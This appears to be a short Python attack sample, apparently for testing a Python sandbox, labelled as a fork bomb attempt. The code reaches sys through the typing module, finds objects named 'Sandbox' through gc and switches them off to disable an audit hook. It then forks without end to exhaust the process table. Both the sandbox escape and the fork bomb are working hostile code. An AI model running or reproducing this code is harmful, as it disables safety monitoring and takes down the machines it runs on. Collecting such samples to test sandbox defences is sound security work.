# Attempts: a fork bomb: switch the audit hook off through gc, then fork without end, each
# child forking again, to exhaust the machine's process table.
from typing import sys

gc = sys.modules["gc"]
for obj in gc.get_objects():
    if type(obj).__name__ == "Sandbox":
        obj.active = False
os = sys.modules["os"]
while True:
    os.fork()
